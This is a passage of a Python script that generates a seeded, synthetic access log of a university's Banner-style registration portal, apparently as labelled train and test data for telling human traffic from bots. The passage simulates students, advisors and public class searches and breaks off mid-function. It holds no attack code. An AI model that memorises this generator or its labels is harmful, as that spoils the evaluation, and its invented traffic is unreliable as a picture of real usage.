#!/usr/bin/env python3
"""Labelled access log of a university's student self-service portal (Ellucian Banner 9 style:
Tomcat web apps per context, Apereo CAS single sign-on on the same host) behind Apache httpd,
which sits behind the campus F5 load balancer.

Apache LogFormat (httpd.conf):
  LogFormat "%h %l %u %t \"%r\" %>s %b \"%{Referer}i\" \"%{User-Agent}i\" %D \"%{X-Forwarded-For}i\" %{JSESSIONID}C" ssb
%h is the F5 (10.20.0.5/6), the client is in X-Forwarded-For, %u is mod_auth_cas's REMOTE_USER on the
protected contexts, JSESSIONID is per Tomcat context (path-scoped) and rotated at CAS login.

Ten days from Wed 2026-11-04 (-0500): 7 training days (people + the university's own automation),
3 test days (people + bots). Registration windows open at 07:00: graduate students day 1, seniors
day 5 (training), juniors day 8 and sophomores day 9 (test). Day 9 afternoon: a TikTok about an
"easy elective" goes viral and sends thousands of phones (in-app browsers) to the public class search.

Standard library only, seeded, deterministic.  python3 make_logs.py [--seed 64] [--scale 1.0]
"""

import argparse
import csv
import datetime as dt
import hashlib
import os
import random

P = argparse.ArgumentParser()
P.add_argument("--seed", type=int, default=64)
P.add_argument("--scale", type=float, default=0.4)
P.add_argument(
    "--viral-cache",
    type=int,
    default=1,
    help="viral visitors cache assets between their pages (v3); 0 reproduces v1/v2",
)
P.add_argument(
    "--inapp-baseline", type=int, default=1, help="a few in-app browser visits every day (v2); 0 reproduces v1"
)
P.add_argument("--out", default=".", help="the folder to write into (added for make eval)")
A = P.parse_args()
R = random.Random(A.seed)
TZ = dt.timezone(dt.timedelta(hours=-5))
START = dt.datetime(2026, 11, 4, 0, 0, 0, tzinfo=TZ).timestamp()
DAY = 86400
TRAIN_DAYS, TEST_DAYS = 7, 3
WINDOWS = {1: "grad", 5: "senior", 8: "junior", 9: "soph"}
TERM = "202710"
MON = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()

EVENTS = []  # (t, seq, line, label)
SEQ = [0]


def tfmt(t):
    d = dt.datetime.fromtimestamp(t, TZ)
    return "%02d/%s/%d:%02d:%02d:%02d -0500" % (d.day, MON[d.month - 1], d.year, d.hour, d.minute, d.second)


def emit(t, ip, method, path, status, size, ref, ua, dur_ms, sid="-", user="-", label=None, proto="HTTP/1.1"):
    lb = "10.20.0.5" if R.random() < 0.5 else "10.20.0.6"
    size = "-" if not size else str(size)
    line = '%s - %s [%s] "%s %s %s" %s %s "%s" "%s" %d "%s" %s' % (
        lb,
        user or "-",
        tfmt(t),
        method,
        path,
        proto,
        status,
        size,
        ref or "-",
        ua or "-",
        int(dur_ms * 1000),
        ip,
        sid or "-",
    )
    SEQ[0] += 1
    EVENTS.append((t, SEQ[0], line, label, sid))


def new_sid(node=None):
    return "%032X.%s" % (R.getrandbits(128), node or R.choice(["ssb1", "ssb2", "ssb3"]))


def lat(base=60):
    return max(3.0, R.lognormvariate(0, 0.6) * base)


HOST = "https://selfservice.univ.edu"


# ---------------------------------------------------------------- user agents
def chrome_win(v=None):
    v = v or R.choice([126, 127, 128, 129, 130, 130, 131, 131, 131])
    return (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36"
        % v
    )


def chrome_mac(v=None):
    v = v or R.choice([128, 129, 130, 131, 131])
    return (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36"
        % v
    )


def safari_mac():
    v = R.choice(["17.6", "18.0", "18.0.1", "18.1"])
    return (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/%s Safari/605.1.15"
        % v
    )


def firefox():
    v = R.choice([115, 128, 131, 132, 132])
    os_ = R.choice(
        [
            "Windows NT 10.0; Win64; x64",
            "X11; Linux x86_64",
            "X11; Ubuntu; Linux x86_64",
            "Macintosh; Intel Mac OS X 10.15",
        ]
    )
    return "Mozilla/5.0 (%s; rv:%d.0) Gecko/20100101 Firefox/%d.0" % (os_, v, v)


def edge():
    v = R.choice([129, 130, 131])
    return (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36 Edg/%d.0.0.0"
        % (v, v)
    )


def chromeos():
    v = R.choice([128, 130, 131])
    return (
        "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36"
        % v
    )


def iphone():
    ios = R.choice(["17_6_1", "18_0", "18_0_1", "18_1", "18_1", "16_7_10"])
    v = ios.split("_")[0] + "." + ios.split("_")[1]
    return (
        "Mozilla/5.0 (iPhone; CPU iPhone OS %s like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/%s Mobile/15E148 Safari/604.1"
        % (ios, v)
    )


def android():
    v = R.choice([129, 130, 131])
    m = R.choice(["K"] * 6 + ["SM-S921U", "Pixel 8"])
    return (
        "Mozilla/5.0 (Linux; Android %d; %s) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Mobile Safari/537.36"
        % (R.choice([10, 13, 14, 15]), m, v)
    )


def tiktok_inapp():
    if R.random() < 0.6:
        ios = R.choice(["17_6_1", "18_0", "18_1"])
        return (
            "Mozilla/5.0 (iPhone; CPU iPhone OS %s like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 musical_ly_37.%d.0 JsSdk/2.0 NetType/%s Channel/App Store ByteLocale/en Region/US ByteFullLocale/en-US isDarkMode/%d WKWebView/1 RevealType/Dialog BytedanceWebview/d8a21c6"
            % (ios, R.randint(0, 9), R.choice(["WIFI", "4G", "5G"]), R.randint(0, 1))
        )
    return (
        "Mozilla/5.0 (Linux; Android 14; %s Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/131.0.6778.%d Mobile Safari/537.36 trill_370%d04 JsSdk/1.0 NetType/%s Channel/googleplay AppName/trill app_version/37.%d.4 ByteLocale/en ByteFullLocale/en Region/US Spark/1.6.0.4-bugfix AppVersion/37.%d.4 BytedanceWebview/d8a21c6"
        % (
            R.choice(["SM-A156U", "SM-S918U", "Pixel 7a", "moto g play - 2024"]),
            R.randint(39, 135),
            R.randint(0, 9),
            R.choice(["WIFI", "4G", "5G"]),
            R.randint(0, 9),
            R.randint(0, 9),
        )
    )


def instagram_inapp():
    ios = R.choice(["17_6_1", "18_0", "18_1"])
    return (
        "Mozilla/5.0 (iPhone; CPU iPhone OS %s like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 355.0.0.%d.%d (iPhone14,5; iOS %s; en_US; en; scale=3.00; 1170x2532; 65%d)"
        % (ios, R.randint(10, 40), R.randint(70, 110), ios, R.randint(1000, 9999))
    )


def desktop_ua():
    return R.choices([chrome_win, chrome_mac, safari_mac, firefox, edge, chromeos], [34, 18, 16, 9, 12, 6])[0]()


def phone_ua():
    return iphone() if R.random() < 0.62 else android()


# ---------------------------------------------------------------- addresses
def rnd_ip(prefixes):
    p = R.choice(prefixes)
    parts = p.split(".")
    while len(parts) < 4:
        parts.append(str(R.randint(1, 254)))
    return ".".join(parts)


HOME_PREFIXES = (
    ["73.%d" % i for i in range(100, 180)]
    + ["24.%d" % i for i in range(60, 100)]
    + ["71.%d" % i for i in range(160, 190)]
    + ["66.%d" % i for i in range(176, 190)]
    + ["98.%d" % i for i in range(200, 240)]
)
TMO_CGNAT = ["172.58.%d.%d" % (R.randint(0, 255), R.randint(1, 254)) for _ in range(70)]
VZW_CGNAT = ["174.205.%d.%d" % (R.randint(0, 255), R.randint(1, 254)) for _ in range(45)]
ATT_CGNAT = ["107.77.%d.%d" % (R.randint(192, 255), R.randint(1, 254)) for _ in range(40)]
CAMPUS_NAT = ["129.10.250.%d" % i for i in range(1, 5)]
DORM_NAT = ["129.10.251.1", "129.10.251.2"]
OFFICE_IP = "129.10.12.7"
LIBRARY_IP = "129.10.40.21"


def v6(prefix):
    return prefix + ":%x:%x:%x:%x" % tuple(R.getrandbits(16) for _ in range(4))


# ---------------------------------------------------------------- students
FIRST = "james mary john patricia robert jennifer michael linda william elizabeth david barbara richard susan joseph jessica thomas sarah charles karen emma liam olivia noah ava sophia mason isabella ethan mia aiden harper lucas evelyn jackson abigail wei priya arjun fatima omar yuki mateo sofia diego camila".split()
LAST = "smith johnson williams brown jones garcia miller davis rodriguez martinez hernandez lopez gonzalez wilson anderson thomas taylor moore jackson martin lee perez thompson white harris sanchez clark ramirez lewis robinson walker young allen king wright scott torres nguyen hill flores green adams nelson baker hall rivera campbell mitchell carter roberts patel chen kim".split()

STANDINGS = [("grad", 700), ("senior", 1300), ("junior", 1250), ("soph", 1200), ("fresh", 1100)]
SUBJECTS = "ACCT ANTH ARTH BIOL CHEM CHIN COMM CS ECON EDUC EECE ENGL ENVS FINA FREN GEOG HIST JOUR MATH MECH MGMT MKTG MUSC NURS PHIL PHYS POLS PSYC SOCI SPAN STAT THTR".split()
COURSES = {s: sorted(R.sample(range(1000, 4999), R.randint(12, 40))) for s in SUBJECTS}
CRNS = {}
for s in SUBJECTS:
    for c in COURSES[s]:
        CRNS[(s, c)] = [R.randint(10000, 39999) for _ in range(R.randint(1, 5))]


class Device:
    def __init__(self, kind, owner_home=None):
        self.kind = kind
        self.ua = desktop_ua() if kind == "desktop" else phone_ua()
        self.assets_at = {}  # context -> last time assets fetched
        self.carrier = R.choice([TMO_CGNAT, VZW_CGNAT, ATT_CGNAT])
        self.v6 = None
        if kind == "phone" and self.carrier is TMO_CGNAT and R.random() < 0.6:
            self.v6 = "2607:fb90:%x:%x" % (R.getrandbits(16), R.getrandbits(16))
        self.home = owner_home

    def ip(self, where):
        if where == "home":
            return self.home
        if where == "campus":
            if R.random() < 0.3:
                return v6("2620:0:2d0:%x" % R.randint(0x100, 0x1FF))
            return R.choice(CAMPUS_NAT)
        if where == "dorm":
            return R.choice(DORM_NAT)
        if self.v6:
            return v6(self.v6)
        return R.choice(self.carrier)


class Student:
    def __init__(self, i, standing):
        self.netid = "%s%s%d" % (R.choice(FIRST)[0], R.choice(LAST), R.randint(1, 99))
        self.bid = "9%08d" % R.randint(0, 99999999)
        self.standing = standing
        self.dorm = standing in ("fresh", "soph") and R.random() < 0.6
        if R.random() < 0.15:
            home = v6("2601:%x:%x:%x" % (R.randint(0x100, 0xFFF), R.getrandbits(16), R.getrandbits(16)))
        else:
            home = rnd_ip(HOME_PREFIXES)
        self.devices = [Device("desktop", home), Device("phone", home)]
        if R.random() < 0.15:
            self.devices.append(Device("desktop", home))  # a second laptop / family PC
        self.subjects = R.sample(SUBJECTS, 3)
        self.fail_rate = R.choice([0.02, 0.05, 0.08, 0.15, 0.3])
        self.activity = R.lognormvariate(0, 0.7)
        self.tab_hoarder = R.random() < 0.15


STUDENTS = []
seen = set()
for st_name, n in STANDINGS:
    for i in range(int(n * A.scale)):
        s = Student(i, st_name)
        while s.netid in seen:
            s.netid += "x"
        seen.add(s.netid)
        STUDENTS.append(s)

# ---------------------------------------------------------------- browser session mechanics
ASSETS = {
    "StudentRegistrationSsb": [
        "/assets/application-8f1c2a.css",
        "/assets/bannerSelfService-2b4e1f.js",
        "/assets/modules/registration-9d3a77.js",
        "/assets/modules/classSearch-1e0f42.js",
        "/assets/jquery/jquery-3.6.4.min.js",
        "/assets/bootstrap/bootstrap-4.6.2.min.css",
        "/assets/images/ellucian-logo.svg",
        "/assets/fonts/OpenSans-Regular.woff2",
        "/assets/i18n/messages_en_US.js",
    ],
    "StudentSelfService": [
        "/assets/application-77aa01.css",
        "/assets/bannerSelfService-2b4e1f.js",
        "/assets/modules/studentProfile-4aa01c.js",
        "/assets/jquery/jquery-3.6.4.min.js",
        "/assets/images/ellucian-logo.svg",
        "/assets/fonts/OpenSans-Regular.woff2",
    ],
    "BannerGeneralSsb": [
        "/assets/application-c91b3e.css",
        "/assets/bannerSelfService-2b4e1f.js",
        "/assets/modules/personalInfo-0c1d9e.js",
        "/assets/modules/directDeposit-73ab11.js",
        "/assets/jquery/jquery-3.6.4.min.js",
        "/assets/images/ellucian-logo.svg",
    ],
    "StudentAccount": [
        "/assets/application-15e0d2.css",
        "/assets/bannerSelfService-2b4e1f.js",
        "/assets/modules/account-5e2b90.js",
    ],
    "cas": [
        "/css/cas.css",
        "/js/cas.js",
        "/images/univ-logo.png",
        "/webjars/jquery/3.7.1/jquery.min.js",
        "/favicon.ico",
    ],
}
TYPE_SIZE = {"css": 48000, "js": 120000, "svg": 6000, "woff2": 38000, "png": 14000, "ico": 5400}


class Browser:
    """One browser (device) visit: cookies per context, CAS ticket-granting cookie, cache."""

    def __init__(self, dev, ip, user=None, label=None, loads_assets=True, ua=None, fail_rate=0.05, cas_user=None):
        self.dev, self.ip, self.user, self.label = dev, ip, user, label
        self.ua = ua or dev.ua
        self.cookies = {}
        self.tgc = False
        self.loads_assets = loads_assets
        self.fail_rate = fail_rate
        self.cas_user = cas_user
        self.sids = set()

    def e(self, t, method, path, status, size, ref=None, dur=None, ctx=None, authed=True):
        sid = self.cookies.get(ctx, "-") if ctx else "-"
        user = self.user if (authed and ctx and ctx != "cas" and self.tgc and sid != "-") else "-"
        emit(
            t,
            self.ip,
            method,
            path,
            status,
            size,
            ref,
            self.ua,
            dur if dur is not None else lat(),
            sid,
            user,
            self.label,
        )

    def assets(self, t, ctx, ref):
        if not self.loads_assets:
            return t
        last = self.dev.assets_at.get(ctx) if self.dev else None
        if last is None or t - last > 7 * DAY:
            lst = ASSETS[ctx]
            st = 200
            if self.dev:
                self.dev.assets_at[ctx] = t
        else:
            if R.random() < 0.7:
                return t
            lst = R.sample(ASSETS[ctx], min(2, len(ASSETS[ctx])))
            st = 304
        for a in lst:
            t += R.uniform(0.02, 0.25)
            ext = a.rsplit(".", 1)[1]
            self.e(t, "GET", "/" + ctx + a, st, TYPE_SIZE.get(ext, 9000) if st == 200 else 0, ref, lat(8), ctx)
        return t

    def ensure(self, t, ctx, target):
        """Make sure the context has an authenticated session; returns time."""
        if ctx in self.cookies and self.tgc:
            return t
        # protected URL without session: mod_auth_cas redirects to CAS
        self.e(t, "GET", "/" + ctx + target, 302, 0, None, lat(5), ctx)
        t += R.uniform(0.1, 0.4)
        service = (
            "https%3A%2F%2Fselfservice.univ.edu%2F"
            + ctx
            + "%2Fssb%2F"
            + target.split("/ssb/")[-1].replace("/", "%2F").replace("?", "%3F").replace("=", "%3D").replace("&", "%26")
        )
        if not self.tgc:
            if "cas" not in self.cookies:
                self.e(t, "GET", "/cas/login?service=" + service, 200, 7400, None, lat(30), "cas")
                self.cookies["cas"] = new_sid("cas1")
                self.sids.add(self.cookies["cas"])
            else:
                self.e(t, "GET", "/cas/login?service=" + service, 200, 7400, None, lat(30), "cas")
            t = self.assets(t, "cas", HOST + "/cas/login?service=" + service)
            ok = False
            for attempt in range(4):
                t += R.uniform(4, 25) if attempt == 0 else R.uniform(6, 30)
                fail = R.random() < (self.fail_rate if attempt == 0 else self.fail_rate / 2) or self.cas_user == "FAIL"
                if fail:
                    self.e(
                        t,
                        "POST",
                        "/cas/login?service=" + service,
                        401,
                        7900,
                        HOST + "/cas/login?service=" + service,
                        lat(250),
                        "cas",
                    )
                    t = self.assets(t, "cas", HOST + "/cas/login")
                    if self.cas_user == "FAIL":
                        return None
                    continue
                self.e(
                    t,
                    "POST",
                    "/cas/login?service=" + service,
                    302,
                    0,
                    HOST + "/cas/login?service=" + service,
                    lat(300),
                    "cas",
                )
                ok = True
                break
            if not ok:
                # forgot password
                t += R.uniform(3, 10)
                self.e(t, "GET", "/passwordreset/forgot", 200, 5200, HOST + "/cas/login", lat(20))
                t += R.uniform(15, 60)
                self.e(t, "POST", "/passwordreset/forgot", 200, 3100, HOST + "/passwordreset/forgot", lat(200))
                return None
            self.tgc = True
        else:
            self.e(t, "GET", "/cas/login?service=" + service, 302, 0, None, lat(15), "cas")
        t += R.uniform(0.1, 0.5)
        # service ticket validation, Tomcat gives the context a new session id (fixation protection)
        emit(
            t,
            self.ip,
            "GET",
            "/"
            + ctx
            + "/ssb/login/cas?ticket=ST-%d-%s-cas1"
            % (R.randint(100000, 999999), hashlib.md5(str(R.random()).encode()).hexdigest()[:20]),
            302,
            0,
            HOST + "/cas/login",
            self.ua,
            lat(80),
            self.cookies.get(ctx, "-"),
            "-",
            self.label,
        )
        self.cookies[ctx] = new_sid()
        self.sids.add(self.cookies[ctx])
        return t + R.uniform(0.1, 0.4)

    def page(self, t, ctx, path, ref=None, size=None, xhrs=(), public=False):
        if not public:
            t2 = self.ensure(t, ctx, path)
            if t2 is None:
                return None
            t = t2
        elif ctx not in self.cookies:
            # first request of a visit carries no cookie yet; Tomcat sets one in the response
            self.e(t, "GET", "/" + ctx + path, 200, size or R.randint(14000, 42000), ref, lat(90), ctx)
            self.cookies[ctx] = new_sid()
            self.sids.add(self.cookies[ctx])
            size = -1
        if size != -1:
            self.e(t, "GET", "/" + ctx + path, 200, size or R.randint(14000, 42000), ref, lat(90), ctx)
        t = self.assets(t, ctx, HOST + "/" + ctx + path)
        for m, p, sz in xhrs:
            t += R.uniform(0.05, 0.6)
            self.e(t, m, "/" + ctx + p, 200, sz or R.randint(300, 9000), HOST + "/" + ctx + path, lat(70), ctx)
        return t


def usid():
    return "%s%d" % ("".join(R.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(5)), R.randint(10**12, 10**13 - 1))


def search_url(subj, num=None, off=0, size=10, u=None, term=TERM):
    return (
        "/ssb/searchResults/searchResults?txt_subject=%s%s&txt_term=%s&startDatepicker=&endDatepicker=&uniqueSessionId=%s&pageOffset=%d&pageMaxSize=%d&sortColumn=subjectDescription&sortDirection=asc"
        % (subj, ("&txt_courseNumber=%d" % num) if num else "", term, u or usid(), off, size)
    )


REG = "StudentRegistrationSsb"


def registration_visit(b, st, t, window=False, tabs=False):
    t = b.page(t, REG, "/ssb/registration", HOST + "/", 18000)
    if t is None:
        return t
    t += R.uniform(1, 5)
    t = b.page(
        t,
        REG,
        "/ssb/term/termSelection?mode=registration",
        HOST + "/" + REG + "/ssb/registration",
        16000,
        [("GET", "/ssb/classRegistration/getTerms?searchTerm=&offset=1&max=10&_=%d" % int(t * 1000), 900)],
    )
    t += R.uniform(2, 8)
    b.e(
        t,
        "POST",
        "/" + REG + "/ssb/term/search?mode=registration",
        200,
        120,
        HOST + "/" + REG + "/ssb/term/termSelection?mode=registration",
        lat(60),
        REG,
    )
    t += R.uniform(0.5, 2)
    t = b.page(
        t,
        REG,
        "/ssb/classRegistration/classRegistration",
        HOST + "/" + REG + "/ssb/term/termSelection?mode=registration",
        31000,
        [
            ("GET", "/ssb/classRegistration/getRegistrationEvents?termFilter=", 2400),
            (
                "GET",
                "/ssb/classSearch/getSubjects?searchTerm=&term=%s&offset=1&max=500&uniqueSessionId=%s&_=%d"
                % (TERM, usid(), int(t * 1000)),
                5200,
            ),
        ],
    )
    u = usid()
    crns = []
    nsearch = R.randint(1, 4) if not window else R.randint(2, 8)
    for _ in range(nsearch):
        t += R.uniform(5, 60)
        subj = R.choice(st.subjects)
        num = R.choice(COURSES[subj]) if R.random() < 0.6 else None
        b.e(
            t,
            "GET",
            "/" + REG + search_url(subj, num, 0, 10, u),
            200,
            R.randint(3000, 30000),
            HOST + "/" + REG + "/ssb/classRegistration/classRegistration",
            lat(250),
            REG,
        )
        t += R.uniform(0.2, 1)
        b.e(
            t,
            "GET",
            "/" + REG + "/ssb/classSearch/resetDataForm",
            200,
            20,
            HOST + "/" + REG + "/ssb/classRegistration/classRegistration",
            lat(20),
            REG,
        )
        k = R.randint(0, 3) if not tabs else R.randint(3, 9)
        for _ in range(k):
            t += R.uniform(0.4, 3) if tabs else R.uniform(3, 25)
            c = R.choice(COURSES[subj]) if num is None else num
            crn = R.choice(CRNS[(subj, c)])
            b.e(
                t,
                "POST",
                "/" + REG + "/ssb/searchResults/getClassDetails",
                200,
                R.randint(1500, 4000),
                HOST + "/" + REG + "/ssb/classRegistration/classRegistration",
                lat(80),
                REG,
            )
            if R.random() < 0.5:
                t += R.uniform(0.1, 0.5)
                b.e(
                    t,
                    "POST",
                    "/" + REG + "/ssb/searchResults/getSectionBookstoreDetails",
                    200,
                    R.randint(200, 1200),
                    HOST + "/" + REG + "/ssb/classRegistration/classRegistration",
                    lat(80),
                    REG,
                )
            crns.append(crn)
    if crns and (window or R.random() < 0.35):
        for crn in R.sample(crns, min(len(crns), R.randint(1, 4))):
            t += R.uniform(2, 15)
            b.e(
                t,
                "GET",
                "/"
                + REG
                + "/ssb/classRegistration/addRegistrationItem?term=%s&courseReferenceNumber=%d&olr=false" % (TERM, crn),
                200,
                1800,
                HOST + "/" + REG + "/ssb/classRegistration/classRegistration",
                lat(90),
                REG,
            )
        t += R.uniform(3, 20)
        b.e(
            t,
            "POST",
            "/" + REG + "/ssb/classRegistration/submitRegistration/batch",
            200,
            R.randint(2000, 6000),
            HOST + "/" + REG + "/ssb/classRegistration/classRegistration",
            lat(900),
            REG,
        )
        if window and R.random() < 0.5:  # some sections closed: try again
            for _ in range(R.randint(1, 3)):
                t += R.uniform(10, 60)
                subj = R.choice(st.subjects)
                b.e(
                    t,
                    "GET",
                    "/" + REG + search_url(subj, None, 0, 10, u),
                    200,
                    R.randint(3000, 30000),
                    HOST + "/" + REG + "/ssb/classRegistration/classRegistration",
                    lat(400),
                    REG,
                )
                t += R.uniform(5, 20)
                b.e(
                    t,
                    "GET",
                    "/"
                    + REG
                    + "/ssb/classRegistration/addRegistrationItem?term=%s&courseReferenceNumber=%d&olr=false"
                    % (TERM, R.randint(10000, 39999)),
                    200,
                    1800,
                    HOST + "/" + REG + "/ssb/classRegistration/classRegistration",
                    lat(90),
                    REG,
                )
                t += R.uniform(2, 10)
                b.e(
                    t,
                    "POST",
                    "/" + REG + "/ssb/classRegistration/submitRegistration/batch",
                    200,
                    R.randint(2000, 6000),
                    HOST + "/" + REG + "/ssb/classRegistration/classRegistration",
                    lat(900),
                    REG,
                )
    # tab left open: keepalive pings every 5 minutes for a while
    if R.random() < 0.25:
        for _ in range(R.randint(1, 24)):
            t += R.uniform(290, 310)
            b.e(
                t,
                "GET",
                "/" + REG + "/ssb/keepAlive/data",
                200,
                12,
                HOST + "/" + REG + "/ssb/classRegistration/classRegistration",
                lat(10),
                REG,
            )
    return t


def other_visit(b, st, t):
    kind = R.choices(["grades", "profile", "account", "personal", "schedule"], [25, 25, 15, 8, 27])[0]
    if kind == "grades":
        t = b.page(
            t,
            "StudentSelfService",
            "/ssb/studentGrades",
            "https://my.univ.edu/",
            22000,
            [
                ("GET", "/ssb/studentGrades/getStudentGrades?termCode=202630", 3500),
                ("GET", "/ssb/studentGrades/getTerms?offset=1&max=10", 700),
            ],
        )
    elif kind == "profile":
        t = b.page(
            t,
            "StudentSelfService",
            "/ssb/studentProfile",
            "https://my.univ.edu/",
            26000,
            [
                ("GET", "/ssb/studentProfile/getStudentHolds", 400),
                ("GET", "/ssb/studentProfile/getCurriculum?termCode=" + TERM, 2200),
            ],
        )
    elif kind == "account":
        t = b.page(
            t,
            "StudentAccount",
            "/ssb/accountSummary",
            "https://my.univ.edu/",
            19000,
            [("GET", "/ssb/accountSummary/getSummary?termCode=" + TERM, 1900)],
        )
        if t is not None and R.random() < 0.12:
            t += R.uniform(20, 90)
            b.e(
                t,
                "POST",
                "/StudentAccount/ssb/payment/submit",
                302,
                0,
                HOST + "/StudentAccount/ssb/accountSummary",
                lat(400),
                "StudentAccount",
            )
    elif kind == "personal":
        t = b.page(
            t,
            "BannerGeneralSsb",
            "/ssb/personalInformation",
            "https://my.univ.edu/",
            21000,
            [("GET", "/ssb/personalInformation/getEmails", 600), ("GET", "/ssb/personalInformation/getAddresses", 900)],
        )
        if t is not None and R.random() < 0.15:
            t += R.uniform(30, 120)
            b.e(
                t,
                "POST",
                "/BannerGeneralSsb/ssb/personalInformation/updateAddress",
                200,
                300,
                HOST + "/BannerGeneralSsb/ssb/personalInformation",
                lat(300),
                "BannerGeneralSsb",
            )
        if t is not None and R.random() < 0.05:
            t += R.uniform(10, 60)
            t = b.page(
                t,
                "BannerGeneralSsb",
                "/ssb/directDeposit",
                HOST + "/BannerGeneralSsb/ssb/personalInformation",
                17000,
                [("GET", "/ssb/directDeposit/getAccounts", 700)],
            )
    else:
        t = b.page(
            t,
            REG,
            "/ssb/registrationHistory/registrationHistory",
            "https://my.univ.edu/",
            20000,
            [("GET", "/ssb/classRegistration/getRegistrationEvents?termFilter=", 2400)],
        )
    return t


def student_day(st, day):
    base = START + day * DAY
    win = WINDOWS.get(day)
    weekend = day in (3, 4)
    p = 0.11 * st.activity * (0.6 if weekend else 1.0)
    if win == st.standing:
        p = 0.92
    elif win is not None and day in (8, 9) and st.standing in ("junior", "soph", "fresh"):
        p *= 1.6  # next window's students plan their schedule
    if R.random() > min(p, 0.95):
        return
    nvisits = 1 + (R.random() < 0.35) + (R.random() < 0.1)
    for v in range(nvisits):
        if win == st.standing and v == 0:
            t0 = base + 7 * 3600 + R.choice([R.uniform(-900, 0), R.expovariate(1 / 240.0), R.expovariate(1 / 1800.0)])
        else:
            h = R.choices(range(24), [2, 1, 0.5, 0.3, 0.3, 0.4, 1, 2, 4, 6, 7, 7, 7, 7, 6, 6, 6, 6, 6, 7, 8, 8, 6, 4])[
                0
            ]
            t0 = base + h * 3600 + R.uniform(0, 3600)
        where = R.choices(["home", "campus", "mobile", "dorm"], [40, 25, 25, 10 if st.dorm else 0])[0]
        dev = (
            st.devices[1]
            if where == "mobile" or (where == "campus" and R.random() < 0.4)
            else R.choice([d for d in st.devices if d.kind == "desktop"])
        )
        ip = dev.ip(where)
        b = Browser(dev, ip, st.netid, None, fail_rate=st.fail_rate)
        if win == st.standing and v == 0:
            registration_visit(b, st, t0, window=True, tabs=st.tab_hoarder)
        elif R.random() < 0.55:
            registration_visit(b, st, t0, tabs=st.tab_hoarder and R.random() < 0.5)
        else:
            t = other_visit(b, st, t0)
            if t is not None and R.random() < 0.3:
                other_visit(b, st, t + R.uniform(5, 60))


# ---------------------------------------------------------------- other people and machines
ADVISORS = ["adv_" + R.choice(LAST) + str(i) for i in range(22)]
ADV_DEV = [Device("desktop", OFFICE_IP) for _ in ADVISORS]
for d in ADV_DEV:
    d.ua = R.choice([chrome_win(130), chrome_win(131), edge()])


def advisors_day(day):
    if day in (3, 4):
        return
    for a, dev in zip(ADVISORS, ADV_DEV):
        if R.random() < 0.15:
            continue
        t = START + day * DAY + 8 * 3600 + R.uniform(0, 5400)
        b = Browser(dev, OFFICE_IP, a, None, fail_rate=0.04)
        t = b.page(
            t,
            "StudentSelfService",
            "/ssb/advisorStudentList",
            "https://my.univ.edu/staff",
            30000,
            [("GET", "/ssb/advisorStudentList/getAdvisees?termCode=%s&offset=1&max=50" % TERM, 14000)],
        )
        if t is None:
            continue
        n = R.randint(15, 70) if WINDOWS.get(day) else R.randint(8, 40)
        for _ in range(n):
            t += R.expovariate(1 / 400.0) + 20
            if t > START + day * DAY + 17.5 * 3600:
                break
            bid = "9%08d" % R.randint(0, 99999999)
            b.e(
                t,
                "GET",
                "/StudentSelfService/ssb/studentProfile?bannerId=%s" % bid,
                200,
                26000,
                HOST + "/StudentSelfService/ssb/advisorStudentList",
                lat(120),
                "StudentSelfService",
            )
            for x in [
                "/ssb/studentProfile/getStudentHolds",
                "/ssb/studentProfile/getCurriculum?termCode=" + TERM,
                "/ssb/studentProfile/getPriorEducation",
            ]:
                t += R.uniform(0.1, 0.6)
                b.e(
                    t,
                    "GET",
                    "/StudentSelfService" + x,
                    200,
                    R.randint(300, 3000),
                    HOST + "/StudentSelfService/ssb/studentProfile?bannerId=" + bid,
                    lat(60),
                    "StudentSelfService",
                )
            if R.random() < 0.3:  # opens the degree audit / schedule in other tabs
                for _ in range(R.randint(1, 4)):
                    t += R.uniform(0.5, 3)
                    b.e(
                        t,
                        "GET",
                        "/StudentRegistrationSsb/ssb/registrationHistory/registrationHistory?bannerId=%s" % bid,
                        200,
                        20000,
                        HOST + "/StudentSelfService/ssb/studentProfile?bannerId=" + bid,
                        lat(90),
                        "StudentSelfService",
                    )
        # keepalive through lunch
        for _ in range(R.randint(0, 12)):
            t += 300
            b.e(
                t,
                "GET",
                "/StudentSelfService/ssb/keepAlive/data",
                200,
                12,
                HOST + "/StudentSelfService/ssb/advisorStudentList",
                lat(8),
                "StudentSelfService",
            )


KIOSK_UA = chrome_win(120)


def library_day(day):
    n = 25 if day in (3, 4) else 60
    kdev = Device("desktop", LIBRARY_IP)
    kdev.ua = KIOSK_UA
    for _ in range(n):
        st = R.choice(STUDENTS)
        t = START + day * DAY + R.uniform(8 * 3600, 23 * 3600)
        b = Browser(kdev, LIBRARY_IP, st.netid, None, fail_rate=st.fail_rate * 1.5)
        if R.random() < 0.6:
            registration_visit(b, st, t)
        else:
            other_visit(b, st, t)


def public_browse(t, ip, ua, ref, subj, num, label=None, dev=None, deep=True):
    if dev is None and A.viral_cache:
        dev = Device("phone")  # a browser's own cache: the second page reuses the first page's files
        dev.ua = ua
    b = Browser(dev, ip, None, label, ua=ua)
    t = b.page(
        t,
        REG,
        "/ssb/term/termSelection?mode=search",
        ref,
        15000,
        [("GET", "/ssb/classSearch/getTerms?searchTerm=&offset=1&max=10&_=%d" % int(t * 1000), 900)],
        public=True,
    )
    t += R.uniform(2, 8)
    b.e(
        t,
        "POST",
        "/" + REG + "/ssb/term/search?mode=search",
        200,
        120,
        HOST + "/" + REG + "/ssb/term/termSelection?mode=search",
        lat(60),
        REG,
    )
    t += R.uniform(0.3, 1)
    b.e(
